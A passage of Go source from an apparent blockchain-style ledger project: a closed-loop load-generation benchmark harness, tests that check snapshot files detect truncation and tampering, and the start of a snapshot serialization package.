		m.MeanBatchSize = float64(om[metrics.TxOrdered]) / float64(om[metrics.BlocksOrdered])
	}
	for _, org := range h.net.Orgs() {
		pm := h.net.Peer(org).Metrics()
		m.DedupHits += pm[metrics.DedupHits]
		m.DedupMisses += pm[metrics.DedupMisses]
		m.LeakedSubscriptions += h.net.Peer(org).Deliver().SubscriberCount()
	}
	return m, nil
}

// E2EResult is the BENCH_e2e.json artifact: the arrival-rate trajectory
// of every workload mix plus the mechanisms demonstration.
type E2EResult struct {
	Clients     int        `json:"clients"`
	TxPerClient int        `json:"tx_per_client"`
	BatchSize   int        `json:"batch_size"`
	RatesTPS    []float64  `json:"rates_tps"`
	Mixes       []MixSweep `json:"mixes"`
	Mechanisms  Mechanisms `json:"mechanisms"`
}

// MeasureE2E sweeps every workload mix across the given aggregate
// arrival rates (each mix on its own warm harness) and runs the
// mechanisms demonstration at the middle rate.
func MeasureE2E(cfg Config, txPerClient int, rates []float64) (E2EResult, error) {
	cfg = cfg.withDefaults()
	res := E2EResult{
		Clients:     cfg.Clients,
		TxPerClient: txPerClient,
		BatchSize:   cfg.BatchSize,
		RatesTPS:    rates,
	}
	for _, mix := range Mixes {
		sw, err := Sweep(cfg, RunOptions{Mix: mix, TxPerClient: txPerClient}, rates)
		if err != nil {
			return E2EResult{}, err
		}
		res.Mixes = append(res.Mixes, sw)
	}
	mid := rates[len(rates)/2]
	mech, err := MeasureMechanisms(cfg, txPerClient, mid)
	if err != nil {
		return E2EResult{}, err
	}
	res.Mechanisms = mech
	return res, nil
}

// E2EJSON renders the result as the committed BENCH_e2e.json artifact.
func E2EJSON(res E2EResult) ([]byte, error) {
	out, err := json.MarshalIndent(res, "", "  ")
	if err != nil {
		return nil, err
	}
	return append(out, '\n'), nil
}

// Render prints the sweep trajectories as a human-readable table.
func Render(res E2EResult) string {
	var b strings.Builder
	fmt.Fprintf(&b, "Closed-loop load sweep: %d clients, %d tx/client, batch %d\n",
		res.Clients, res.TxPerClient, res.BatchSize)
	for _, mix := range res.Mixes {
		fmt.Fprintf(&b, "\nmix=%s (unpaced ceiling %.0f tx/s", mix.Mix, mix.UnpacedTPS)
		if mix.KneeTPS > 0 {
			fmt.Fprintf(&b, ", knee at %.0f tx/s offered", mix.KneeTPS)
		}
		b.WriteString(")\n")
		fmt.Fprintf(&b, "%-12s%-12s%-10s%-10s%-10s%-10s%-10s%-6s\n",
			"offered", "achieved", "invalid", "shed", "p50ms", "p95ms", "p99ms", "knee")
		for _, p := range mix.Points {
			knee := ""
			if p.Knee {
				knee = "<--"
			}
			fmt.Fprintf(&b, "%-12.0f%-12.1f%-10d%-10d%-10.2f%-10.2f%-10.2f%-6s\n",
				p.OfferedTPS, p.AchievedTPS, p.Invalid, p.Shed, p.P50Ms, p.P95Ms, p.P99Ms, knee)
		}
	}
	m := res.Mechanisms
	fmt.Fprintf(&b, "\nmechanisms @ %.0f tx/s offered, admission %.1f tx/s/client:\n", m.OfferedTPS, m.AdmissionPerClient)
	fmt.Fprintf(&b, "  shed=%d dropped=%d abandoned=%d leaked_subs=%d\n", m.Shed, m.Dropped, m.Abandoned, m.LeakedSubscriptions)
	fmt.Fprintf(&b, "  dup_probes=%d dup_rejected=%d dedup_hits=%d dedup_misses=%d\n", m.DupProbes, m.DupRejected, m.DedupHits, m.DedupMisses)
	fmt.Fprintf(&b, "  gateway_flushes=%d flushes_elided=%d mean_batch=%.2f\n", m.GatewayFlushes, m.OrdererFlushesElided, m.MeanBatchSize)
	return b.String()
}
