// Package loadgen is the closed-loop end-to-end load harness: N
// simulated clients drive the Gateway submit→commit flow against an
// in-process network at a controlled arrival rate, recording exact
// per-transaction submit→commit latency samples (p50/p95/p99 computed
// from the sorted sample set, not histogram buckets).
//
// Pacing model: each client follows an absolute token schedule — tick i
// fires at start + i·interval, and a client that falls behind does NOT
// skip ticks, it works through the backlog as fast as the closed loop
// allows. Below the system's capacity the achieved rate tracks the
// offered rate and latency is flat; past the knee the backlog grows, the
// achieved rate saturates and the latency percentiles blow up — exactly
// the trajectory an open-throttle benchmark cannot show (Wang & Chu's
// arrival-rate sweeps).
//
// The harness also exercises the overload machinery this repo grew for
// it: gateway token-bucket admission (ErrOverloaded is retried with a
// capped backoff and counted), the abandoned-handle path (SubmitAsync +
// Close without Status), and duplicate-TxID resubmission (the second
// submission of an identical transaction must come back DUPLICATE_TXID,
// served by the validator's sharded dedup cache).
package loadgen

import (
	"context"
	"errors"
	"fmt"
	"math/rand"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"repro/internal/chaincode"
	"repro/internal/contracts"
	"repro/internal/core"
	"repro/internal/gateway"
	"repro/internal/identity"
	"repro/internal/ledger"
	"repro/internal/metrics"
	"repro/internal/network"
	"repro/internal/service"
)

// Workload mixes.
const (
	// MixZipf targets a Zipfian hotspot key distribution with plain
	// "set" writes: a few keys absorb most of the write traffic.
	MixZipf = "zipf"
	// MixConflict drives read-modify-write "add" calls against a tiny
	// key set, so concurrent clients collide and MVCC invalidations are
	// the norm rather than the exception.
	MixConflict = "conflict"
	// MixLarge writes unique keys with large values, stressing payload
	// marshaling, hashing and the block pipeline's byte throughput.
	MixLarge = "large"
)

// Mixes lists the workload mixes in canonical order.
var Mixes = []string{MixZipf, MixConflict, MixLarge}

// Config sizes the harness: the network and client fleet that stay warm
// across the points of a sweep.
type Config struct {
	// Clients is the number of concurrent simulated clients, each with
	// its own Gateway connection (default 8).
	Clients int
	// BatchSize is the orderer's block-cut threshold (default 32).
	BatchSize int
	// BatchTimeout cuts partial batches on a timer; 0 (the default)
	// relies on the commit waiters' targeted flushes.
	BatchTimeout time.Duration
	// Security is the base security configuration for every node.
	Security core.SecurityConfig
	// Seed drives every random source in the harness (default 1).
	Seed int64
}

func (c Config) withDefaults() Config {
	if c.Clients <= 0 {
		c.Clients = 8
	}
	if c.BatchSize <= 0 {
		c.BatchSize = 32
	}
	if c.Seed == 0 {
		c.Seed = 1
	}
	return c
}

// RunOptions parameterizes one measured point.
type RunOptions struct {
	// Mix selects the workload (MixZipf/MixConflict/MixLarge).
	Mix string
	// TxPerClient is the number of scheduled submissions per client
	// (default 50).
	TxPerClient int
	// Rate is the aggregate offered arrival rate in tx/s, split evenly
	// across clients; 0 runs unpaced (pure closed loop, maximum
	// pressure).
	Rate float64
	// Keys sizes the key space (defaults: 1024 for zipf, 4 for
	// conflict; large always writes unique keys).
	Keys int
	// ZipfS is the Zipf skew exponent, > 1 (default 1.2).
	ZipfS float64
	// ValueBytes sizes the written value for MixLarge (default 16384);
	// other mixes write small values.
	ValueBytes int
	// AbandonEvery, when > 0, makes every Nth submission an abandoned
	// handle: SubmitAsync + Close, never asking for the status.
	AbandonEvery int
	// DuplicateEvery, when > 0, makes every Nth submission a duplicate
	// probe: the assembled transaction is submitted twice and the second
	// copy must come back DUPLICATE_TXID.
	DuplicateEvery int
	// AdmissionRate, when > 0, arms each client gateway's token bucket
	// at this per-client rate (tx/s) for the run, and disarms it after.
	AdmissionRate float64
	// AdmissionBurst is the bucket capacity when AdmissionRate is set.
	AdmissionBurst int
}

func (o RunOptions) withDefaults() RunOptions {
	if o.Mix == "" {
		o.Mix = MixZipf
	}
	if o.TxPerClient <= 0 {
		o.TxPerClient = 50
	}
	if o.Keys <= 0 {
		if o.Mix == MixConflict {
			o.Keys = 4
		} else {
			o.Keys = 1024
		}
	}
	if o.ZipfS <= 1 {
		o.ZipfS = 1.2
	}
	if o.ValueBytes <= 0 {
		o.ValueBytes = 16384
	}
	return o
}

// Point is the measurement of one (mix, rate) cell.
type Point struct {
	Mix     string  `json:"mix"`
	Clients int     `json:"clients"`
	Offered float64 `json:"offered_tps"` // 0 = unpaced
	// Completed counts transactions whose final commit status was
	// observed (whatever the code); duplicates' second copies excluded.
	Completed int `json:"completed"`
	// Invalid counts completions with a non-VALID code (MVCC conflicts,
	// mostly, under MixConflict).
	Invalid int `json:"invalid"`
	// Shed counts submissions rejected by admission control (each retry
	// that was shed again counts once more).
	Shed uint64 `json:"shed"`
	// Dropped counts scheduled submissions abandoned after exhausting
	// the overload retry budget.
	Dropped int `json:"dropped"`
	// Abandoned counts SubmitAsync handles closed without Status.
	Abandoned int `json:"abandoned"`
	// DupProbes / DupRejected count duplicate-submission probes and how
	// many of their second copies were rejected DUPLICATE_TXID.
	DupProbes   int `json:"dup_probes,omitempty"`
	DupRejected int `json:"dup_rejected,omitempty"`

	Elapsed  time.Duration `json:"-"`
	Achieved float64       `json:"achieved_tps"`

	// Exact-sample submit→commit latency quantiles.
	P50 time.Duration `json:"-"`
	P95 time.Duration `json:"-"`
	P99 time.Duration `json:"-"`

	// Knee marks the first sweep point whose achieved rate fell
	// measurably below the offered rate.
	Knee bool `json:"knee,omitempty"`
}

// Harness is a warm measurement network plus its client fleet, reused
// across the points of a sweep so later points do not pay construction
// and cache-warmup costs. The fleet is addressed through the
// transport-agnostic service.Gateway interface, so the same Run loop
// drives in-process gateways (NewHarness) and wire-protocol gateway
// clients talking to separate OS processes (NewRemoteHarness).
type Harness struct {
	cfg     Config
	net     *network.Network // nil when the fleet is remote
	channel string
	fleet   []service.Gateway  // one per simulated client
	local   []*gateway.Gateway // in-process gateways (admission arming, dup probes)

	counters *metrics.Counters
	timings  *metrics.Timings
}

// NewHarness builds a three-organization network with the "asset"
// chaincode and one Gateway per simulated client (round-robin commit
// peers across orgs), sharing one counter/timing set.
func NewHarness(cfg Config) (*Harness, error) {
	cfg = cfg.withDefaults()
	net, err := network.New(network.Options{
		Orgs:         []string{"org1", "org2", "org3"},
		BatchSize:    cfg.BatchSize,
		BatchTimeout: cfg.BatchTimeout,
		Security:     cfg.Security,
		Seed:         cfg.Seed,
	})
	if err != nil {
		return nil, err
	}
	def := &chaincode.Definition{Name: "asset", Version: "1.0"}
	if err := net.DeployChaincode(def, contracts.NewPublicAsset()); err != nil {
		return nil, err
	}

	h := &Harness{
		cfg:      cfg,
		net:      net,
		channel:  net.Channel.Name,
		counters: &metrics.Counters{},
		timings:  &metrics.Timings{},
	}
	orgs := net.Orgs()
	h.fleet = make([]service.Gateway, cfg.Clients)
	h.local = make([]*gateway.Gateway, cfg.Clients)
	for c := 0; c < cfg.Clients; c++ {
		org := orgs[c%len(orgs)]
		id, err := net.CA(org).Issue(fmt.Sprintf("load-%d.%s", c, org), identity.RoleClient)
		if err != nil {
			return nil, fmt.Errorf("loadgen: client %d: %w", c, err)
		}
		gw := gateway.Connect(id, gateway.Options{
			Verifier:   net.Channel.Verifier(),
			Orderer:    net.Orderer,
			Security:   cfg.Security,
			CommitPeer: net.Peer(org),
			Timings:    h.timings,
			Metrics:    h.counters,
		}, service.AsPeers(net.Peers())...)
		h.fleet[c] = gw
		h.local[c] = gw
	}
	return h, nil
}

// NewRemoteHarness wraps an externally built gateway fleet — typically
// wire-protocol clients connected to gateway processes — in the same
// measurement loop. Clients are assigned round-robin over the supplied
// gateways. Admission arming and duplicate probes need in-process
// internals and are skipped on a remote harness; shed submissions are
// still retried (the wire carries ErrOverloaded with its retry-after
// hint) but the Shed counter reports 0 because it lives server-side.
func NewRemoteHarness(cfg Config, channel string, fleet ...service.Gateway) (*Harness, error) {
	cfg = cfg.withDefaults()
	if len(fleet) == 0 {
		return nil, fmt.Errorf("loadgen: remote harness needs at least one gateway")
	}
	h := &Harness{
		cfg:      cfg,
		channel:  channel,
		counters: &metrics.Counters{},
		timings:  &metrics.Timings{},
	}
	h.fleet = make([]service.Gateway, cfg.Clients)
	for c := 0; c < cfg.Clients; c++ {
		h.fleet[c] = fleet[c%len(fleet)]
	}
	return h, nil
}

// Network exposes the underlying network for metric scraping and
// integration assertions.
func (h *Harness) Network() *network.Network { return h.net }

// Counters exposes the fleet's shared gateway counter set.
func (h *Harness) Counters() *metrics.Counters { return h.counters }

// Close stops the orderer and releases peer storage. Remote harnesses
// hold no network; closing their wire connections is the caller's job.
func (h *Harness) Close() error {
	if h.net == nil {
		return nil
	}
	for _, g := range h.local {
		g.Close()
	}
	h.net.Orderer.Stop()
	err := h.net.Close()
	h.net = nil
	return err
}

// setAdmission arms (or, with rate 0, disarms) every in-process client
// gateway's token bucket.
func (h *Harness) setAdmission(rate float64, burst int) {
	sec := h.cfg.Security
	sec.GatewayAdmissionRate = rate
	sec.GatewayAdmissionBurst = burst
	for _, g := range h.local {
		g.SetSecurity(sec)
	}
}

// clientOut accumulates one client's results for the merge after the
// run; each goroutine writes only its own slot.
type clientOut struct {
	lats                   []time.Duration
	completed, invalid     int
	dropped, abandoned     int
	dupProbes, dupRejected int
	err                    error
}

// clientState is one simulated client's per-run workload generator.
type clientState struct {
	idx      int
	rng      *rand.Rand
	zipf     *rand.Zipf
	largeVal string
	opts     RunOptions
	runTag   string
}

// nextCall picks the chaincode call of scheduled submission i.
func (cs *clientState) nextCall(i int) (fn string, args []string) {
	switch cs.opts.Mix {
	case MixConflict:
		// Tiny shared key space + read-modify-write: concurrent adds to
		// the same key in one block conflict by construction.
		key := "c" + strconv.Itoa(cs.rng.Intn(cs.opts.Keys))
		return "add", []string{key, "1"}
	case MixLarge:
		// Unique keys, big values: byte-throughput stress.
		key := fmt.Sprintf("l%s-%d-%d", cs.runTag, cs.idx, i)
		return "set", []string{key, cs.largeVal}
	default: // MixZipf
		key := "z" + strconv.FormatUint(cs.zipf.Uint64(), 10)
		return "set", []string{key, "v" + strconv.Itoa(i&0xff)}
	}
}

// overloadRetries bounds how often one scheduled submission retries
// after being shed before it is counted as dropped.
const overloadRetries = 8

// Run drives one measured point against the warm harness: every client
// follows its absolute schedule at Rate/Clients tx/s (or unpaced when
// Rate is 0) for TxPerClient scheduled submissions.
func (h *Harness) Run(opts RunOptions) (Point, error) {
	opts = opts.withDefaults()
	if opts.Mix != MixZipf && opts.Mix != MixConflict && opts.Mix != MixLarge {
		return Point{}, fmt.Errorf("loadgen: unknown mix %q", opts.Mix)
	}
	cfg := h.cfg

	if opts.AdmissionRate > 0 && h.net != nil {
		h.setAdmission(opts.AdmissionRate, opts.AdmissionBurst)
		defer h.setAdmission(0, 0)
	}
	shedBefore := h.counters.Get(metrics.GatewayShed)

	var interval time.Duration
	if opts.Rate > 0 {
		interval = time.Duration(float64(time.Second) * float64(cfg.Clients) / opts.Rate)
	}
	// runTag isolates key spaces across the points of a sweep so
	// MixLarge's unique keys never collide with an earlier run's.
	runTag := strconv.FormatInt(time.Now().UnixNano(), 36)

	outs := make([]clientOut, cfg.Clients)
	var wg sync.WaitGroup
	start := time.Now()
	for c := 0; c < cfg.Clients; c++ {
		wg.Add(1)
		go func(c int) {
			defer wg.Done()
			out := &outs[c]
			cs := &clientState{
				idx:    c,
				rng:    rand.New(rand.NewSource(cfg.Seed + int64(c)*7919)),
				opts:   opts,
				runTag: runTag,
			}
			cs.zipf = rand.NewZipf(cs.rng, opts.ZipfS, 1, uint64(opts.Keys-1))
			if opts.Mix == MixLarge {
				cs.largeVal = strings.Repeat("x", opts.ValueBytes)
			}
			gw := h.fleet[c]
			ctx := context.Background()

			next := time.Now()
			for i := 0; i < opts.TxPerClient; i++ {
				if interval > 0 {
					if d := time.Until(next); d > 0 {
						time.Sleep(d)
					}
					// Absolute schedule: a late tick does not push the
					// following ones — the backlog is the knee signal.
					next = next.Add(interval)
				}
				fn, args := cs.nextCall(i)
				req := service.NewInvoke("asset", fn, args...).OnChannel(h.channel)

				if opts.DuplicateEvery > 0 && h.net != nil && (i+1)%opts.DuplicateEvery == 0 {
					h.runDuplicateProbe(ctx, h.local[c], out, fn, args)
					if out.err != nil {
						return
					}
					continue
				}
				if opts.AbandonEvery > 0 && (i+1)%opts.AbandonEvery == 0 {
					for attempt := 0; attempt <= overloadRetries; attempt++ {
						commit, err := gw.SubmitAsync(ctx, req)
						if errors.Is(err, gateway.ErrOverloaded) {
							time.Sleep(overloadBackoff(err, attempt, 0))
							continue
						}
						if err == nil {
							commit.Close()
							out.abandoned++
						}
						break
					}
					continue
				}

				submitted := false
				for attempt := 0; attempt <= overloadRetries; attempt++ {
					t0 := time.Now()
					res, err := gw.Submit(ctx, req)
					if errors.Is(err, gateway.ErrOverloaded) {
						// Retryable by contract: nothing was endorsed or
						// ordered. Back off for the server's retry-after
						// hint when the error carries one (it survives the
						// wire), else roughly a token's worth.
						time.Sleep(overloadBackoff(err, attempt, opts.AdmissionRate))
						continue
					}
					if errors.Is(err, gateway.ErrEndorsementMismatch) {
						// Transient under read-modify-write load: one
						// endorser had committed a block the other had not
						// yet, so their responses diverge. Re-endorse, as
						// the Fabric client API does.
						time.Sleep(time.Millisecond << uint(attempt))
						continue
					}
					if err != nil {
						out.err = fmt.Errorf("loadgen: client %d tx %d: %w", c, i, err)
						return
					}
					out.lats = append(out.lats, time.Since(t0))
					out.completed++
					if res.Code != ledger.Valid {
						out.invalid++
					}
					submitted = true
					break
				}
				if !submitted {
					out.dropped++
				}
			}
		}(c)
	}
	wg.Wait()
	elapsed := time.Since(start)

	var all []time.Duration
	pt := Point{Mix: opts.Mix, Clients: cfg.Clients, Offered: opts.Rate, Elapsed: elapsed}
	for i := range outs {
		if outs[i].err != nil {
			return Point{}, outs[i].err
		}
		all = append(all, outs[i].lats...)
		pt.Completed += outs[i].completed
		pt.Invalid += outs[i].invalid
		pt.Dropped += outs[i].dropped
		pt.Abandoned += outs[i].abandoned
		pt.DupProbes += outs[i].dupProbes
		pt.DupRejected += outs[i].dupRejected
	}
	pt.Shed = h.counters.Get(metrics.GatewayShed) - shedBefore
	pt.Achieved = float64(pt.Completed) / elapsed.Seconds()
	pt.P50, pt.P95, pt.P99 = quantiles(all)
	return pt, nil
}

// overloadBackoff picks the sleep before retrying a shed submission:
// the server's retry-after hint when the error carries one, else an
// exponential backoff capped at one admission token's worth.
func overloadBackoff(err error, attempt int, admissionRate float64) time.Duration {
	var ov *gateway.OverloadedError
	if errors.As(err, &ov) && ov.RetryAfter > 0 {
		return ov.RetryAfter
	}
	backoff := time.Millisecond << uint(attempt)
	if admissionRate > 0 {
		if tok := time.Duration(float64(time.Second) / admissionRate); backoff > tok {
			backoff = tok
		}
	}
	return backoff
}

// runDuplicateProbe endorses one transaction and submits the assembled
// bytes twice: the first copy is the measured submission, the second
// must be rejected DUPLICATE_TXID by the commit peers' dedup cache.
// Probes need the in-process assembly internals, so a remote harness
// never runs them.
func (h *Harness) runDuplicateProbe(
	ctx context.Context,
	gw *gateway.Gateway,
	out *clientOut,
	fn string, args []string,
) {
	nonce, err := ledger.NewNonce()
	if err != nil {
		out.err = err
		return
	}
	creator := gw.Identity().Cert.Bytes()
	prop := &ledger.Proposal{
		TxID:      ledger.NewTxID(nonce, creator),
		ChannelID: h.net.Channel.Name,
		Chaincode: "asset",
		Function:  fn,
		Args:      args,
		Creator:   creator,
		Nonce:     nonce,
	}
	tx, payload, err := gw.EndorseProposal(ctx, prop, service.AsEndorsers(h.net.Peers()))
	if err != nil {
		out.err = err
		return
	}
	t0 := time.Now()
	res, err := gw.SubmitAssembled(ctx, tx, payload)
	if err != nil {
		out.err = err
		return
	}
	out.lats = append(out.lats, time.Since(t0))
	out.completed++
	if res.Code != ledger.Valid {
		out.invalid++
	}
	out.dupProbes++
	dup, err := gw.SubmitAssembled(ctx, tx, payload)
	if err != nil {
		out.err = err
		return
	}
	if dup.Code == ledger.DuplicateTxID {
		out.dupRejected++
	}
}

// quantiles returns exact p50/p95/p99 over the sample set (nearest-rank
// on the sorted samples); zero durations when empty.
func quantiles(samples []time.Duration) (p50, p95, p99 time.Duration) {
	if len(samples) == 0 {
		return 0, 0, 0
	}
	sort.Slice(samples, func(i, j int) bool { return samples[i] < samples[j] })
	rank := func(q float64) time.Duration {
		i := int(q*float64(len(samples))+0.5) - 1
		if i < 0 {
			i = 0
		}
		if i >= len(samples) {
			i = len(samples) - 1
		}
		return samples[i]
	}
	return rank(0.50), rank(0.95), rank(0.99)
}
