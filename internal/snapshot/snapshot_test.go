package snapshot

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"repro/internal/storage"
)

func testRecords(n int) []Record {
	out := make([]Record, 0, n+3)
	for i := 0; i < n; i++ {
		out = append(out, Record{
			Kind:      KindState,
			Namespace: fmt.Sprintf("ns%d", i%3),
			Key:       fmt.Sprintf("key-%04d", i),
			Value:     []byte(strings.Repeat("v", 50+i%17)),
			Version:   uint64(i + 1),
		})
	}
	out = append(out,
		Record{Kind: KindTombstone, Namespace: "ns0", Key: "deleted", Version: 9},
		Record{Kind: KindPurge, At: 42, Namespace: "cc$p$pdc1", Key: "secret"},
		Record{Kind: KindMissing, TxID: "tx-7", Collection: "pdc1"},
	)
	return out
}

func writeArtifact(t *testing.T, dir string, recs []Record, chunkBytes int) *Manifest {
	t.Helper()
	w, err := NewWriter(dir)
	if err != nil {
		t.Fatal(err)
	}
	if chunkBytes > 0 {
		w.SetChunkBytes(chunkBytes)
	}
	for _, r := range recs {
		if err := w.Add(r); err != nil {
			t.Fatal(err)
		}
	}
	m, err := w.Finish(77, []byte("prevhash"), []byte("statehash"))
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestRoundTripMultiChunk(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "snap")
	recs := testRecords(200)
	m := writeArtifact(t, dir, recs, 2048) // force several chunks

	if len(m.Chunks) < 2 {
		t.Fatalf("expected a multi-chunk artifact, got %d chunks", len(m.Chunks))
	}
	if m.Height != 77 {
		t.Fatalf("height = %d", m.Height)
	}
	got, gotRecs, err := Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	if got.SnapshotHash != m.SnapshotHash {
		t.Fatal("snapshot hash changed across reload")
	}
	if len(gotRecs) != len(recs) {
		t.Fatalf("loaded %d records, wrote %d", len(gotRecs), len(recs))
	}
	for i, r := range recs {
		g := gotRecs[i]
		if g.Kind != r.Kind || g.Namespace != r.Namespace || g.Key != r.Key ||
			string(g.Value) != string(r.Value) || g.Version != r.Version ||
			g.At != r.At || g.TxID != r.TxID || g.Collection != r.Collection {
			t.Fatalf("record %d round-trip mismatch:\n got %+v\nwant %+v", i, g, r)
		}
	}
	if got.Counts.State != 200 || got.Counts.Tombstones != 1 || got.Counts.Purges != 1 || got.Counts.Missing != 1 {
		t.Fatalf("counts = %+v", got.Counts)
	}
}

func TestEmptySnapshot(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "snap")
	w, err := NewWriter(dir)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Finish(0, nil, []byte("h")); err != nil {
		t.Fatal(err)
	}
	m, recs, err := Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 0 || len(m.Chunks) != 0 || m.Height != 0 || m.LastBlockHash != "" {
		t.Fatalf("empty artifact loaded as %+v with %d records", m, len(recs))
	}
}

func TestWriterRefusesFinishedDir(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "snap")
	writeArtifact(t, dir, testRecords(3), 0)
	if _, err := NewWriter(dir); err == nil {
		t.Fatal("NewWriter over a finished artifact did not fail")
	}
}

// corrupt applies fn to the artifact and asserts Load fails with
// storage.ErrCorrupt while leaving the directory loadable again once
// the corruption is undone — i.e. verification never mutates it.
func corruptAndCheck(t *testing.T, fn func(t *testing.T, dir string) (undo func())) {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "snap")
	writeArtifact(t, dir, testRecords(50), 1024)

	undo := fn(t, dir)
	if _, _, err := Load(dir); !errors.Is(err, storage.ErrCorrupt) {
		t.Fatalf("Load of corrupted artifact: err = %v, want storage.ErrCorrupt", err)
	}
	undo()
	if _, _, err := Load(dir); err != nil {
		t.Fatalf("Load after undoing corruption: %v (verification mutated the dir?)", err)
	}
}

func firstChunk(t *testing.T, dir string) string {
	t.Helper()
	names, err := filepath.Glob(filepath.Join(dir, "chunk-*.snap"))
	if err != nil || len(names) == 0 {
		t.Fatalf("no chunks in %s: %v", dir, err)
	}
	return names[0]
}

func swapFile(t *testing.T, path string, mutate func([]byte) []byte) (undo func()) {
	t.Helper()
	orig, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, mutate(append([]byte(nil), orig...)), 0o644); err != nil {
		t.Fatal(err)
	}
	return func() {
		if err := os.WriteFile(path, orig, 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func TestTruncatedChunkFailsCorrupt(t *testing.T) {
	corruptAndCheck(t, func(t *testing.T, dir string) func() {
		return swapFile(t, firstChunk(t, dir), func(b []byte) []byte { return b[:len(b)-7] })
	})
}

func TestBitFlippedChunkFailsCorrupt(t *testing.T) {
	corruptAndCheck(t, func(t *testing.T, dir string) func() {
		return swapFile(t, firstChunk(t, dir), func(b []byte) []byte {
			b[len(b)/2] ^= 0x40
			return b
		})
	})
}

func TestMissingChunkFailsCorrupt(t *testing.T) {
	corruptAndCheck(t, func(t *testing.T, dir string) func() {
		path := firstChunk(t, dir)
		orig, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.Remove(path); err != nil {
			t.Fatal(err)
		}
		return func() {
			if err := os.WriteFile(path, orig, 0o644); err != nil {
				t.Fatal(err)
			}
		}
	})
}

func TestTamperedManifestFailsCorrupt(t *testing.T) {
	// Editing any manifest field (here: the recorded height) breaks the
	// manifest self-hash.
	corruptAndCheck(t, func(t *testing.T, dir string) func() {
		return swapFile(t, filepath.Join(dir, ManifestName), func(b []byte) []byte {
			return []byte(strings.Replace(string(b), `"height": 77`, `"height": 78`, 1))
		})
	})
}

func TestManifestHashMismatchFailsCorrupt(t *testing.T) {
	corruptAndCheck(t, func(t *testing.T, dir string) func() {
		return swapFile(t, filepath.Join(dir, ManifestName), func(b []byte) []byte {
			s := string(b)
			i := strings.Index(s, `"snapshot_hash": "`)
			if i < 0 {
				t.Fatal("no snapshot_hash in manifest")
			}
			// Flip one hex digit of the recorded snapshot hash.
			j := i + len(`"snapshot_hash": "`)
			repl := byte('0')
			if s[j] == '0' {
				repl = '1'
			}
			return []byte(s[:j] + string(repl) + s[j+1:])
		})
	})
}

func TestChunkSwapFailsCorrupt(t *testing.T) {
	// Two chunks swapped on disk: sizes may match, hashes will not.
	dir := filepath.Join(t.TempDir(), "snap")
	writeArtifact(t, dir, testRecords(120), 1024)
	names, _ := filepath.Glob(filepath.Join(dir, "chunk-*.snap"))
	if len(names) < 2 {
		t.Fatalf("need >= 2 chunks, got %d", len(names))
	}
	a, _ := os.ReadFile(names[0])
	b, _ := os.ReadFile(names[1])
	os.WriteFile(names[0], b, 0o644)
	os.WriteFile(names[1], a, 0o644)
	if _, _, err := Load(dir); !errors.Is(err, storage.ErrCorrupt) {
		t.Fatalf("Load with swapped chunks: err = %v, want storage.ErrCorrupt", err)
	}
}
