// Package snapshot serializes a peer's full commit-point state into a
// portable, verifiable artifact: the statedb contents (live tuples and
// deletion tombstones), the BlockToLive purge schedule, the
// missing-private-data records, and the block-height watermark. A cold
// peer installs the artifact and catches up from the watermark via the
// normal delivery replay — an O(state) join instead of an O(chain)
// replay from genesis (docs/SNAPSHOT.md).
//
// On-disk layout: a directory holding MANIFEST.json plus one or more
// chunk files (chunk-000000.snap, chunk-000001.snap, ...). Each chunk
// begins with an 8-byte magic and carries CRC-framed records; the
// manifest records every chunk's size and SHA-256 plus a hash over the
// manifest itself, so any truncation, bit flip or file swap is detected
// before a single record is applied.
package snapshot

import (
	"bytes"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"os"
	"path/filepath"

	"repro/internal/storage"
)

// Magic opens every chunk file.
const Magic = "PDCSNAP1"

// FormatVersion is bumped on any incompatible layout change.
const FormatVersion = 1

// ManifestName is the manifest file inside a snapshot directory.
const ManifestName = "MANIFEST.json"

// DefaultChunkBytes is the target chunk payload size: a chunk is sealed
// once its framed records reach this many bytes.
const DefaultChunkBytes = 1 << 20

// maxRecordBytes bounds a single framed record, so a corrupt length
// field cannot drive a huge allocation during verification.
const maxRecordBytes = 64 << 20

// castagnoli is the CRC-32C table used for record framing (same
// polynomial as the durable storage backend).
var castagnoli = crc32.MakeTable(crc32.Castagnoli)

// RecordKind discriminates snapshot records.
type RecordKind uint8

const (
	// KindState is a live world-state tuple (namespace, key, value,
	// version) — public, hashed-private and original-private namespaces
	// alike; the namespace prefix distinguishes them.
	KindState RecordKind = 1
	// KindTombstone is a deleted key's tombstone (namespace, key, last
	// live version). Tombstones participate in StateHash and keep the
	// version sequence continuous when a deleted key is re-created.
	KindTombstone RecordKind = 2
	// KindPurge is one pending BlockToLive purge (at, namespace, key).
	KindPurge RecordKind = 3
	// KindMissing is one missing-private-data record (txID, collection)
	// still awaiting reconciliation.
	KindMissing RecordKind = 4
)

// Record is one snapshot record; which fields are meaningful depends on
// Kind (see the kind constants).
type Record struct {
	Kind       RecordKind
	Namespace  string
	Key        string
	Value      []byte
	Version    uint64
	At         uint64
	TxID       string
	Collection string
}

// Counts tallies records by kind, cross-checked during verification.
type Counts struct {
	State      int `json:"state"`
	Tombstones int `json:"tombstones"`
	Purges     int `json:"purges"`
	Missing    int `json:"missing"`
}

// ChunkInfo describes one chunk file in the manifest.
type ChunkInfo struct {
	Name    string `json:"name"`
	Records int    `json:"records"`
	Bytes   int64  `json:"bytes"`
	SHA256  string `json:"sha256"`
}

// Manifest is the artifact's table of contents. SnapshotHash is the
// SHA-256 of the manifest JSON serialized with SnapshotHash set to the
// empty string, making the manifest self-authenticating: given a
// trusted snapshot hash (e.g. out of band from the exporting peer), the
// whole artifact verifies transitively.
type Manifest struct {
	Format        int         `json:"format"`
	Height        uint64      `json:"height"`
	LastBlockHash string      `json:"last_block_hash"`
	StateHash     string      `json:"state_hash"`
	Counts        Counts      `json:"counts"`
	Chunks        []ChunkInfo `json:"chunks"`
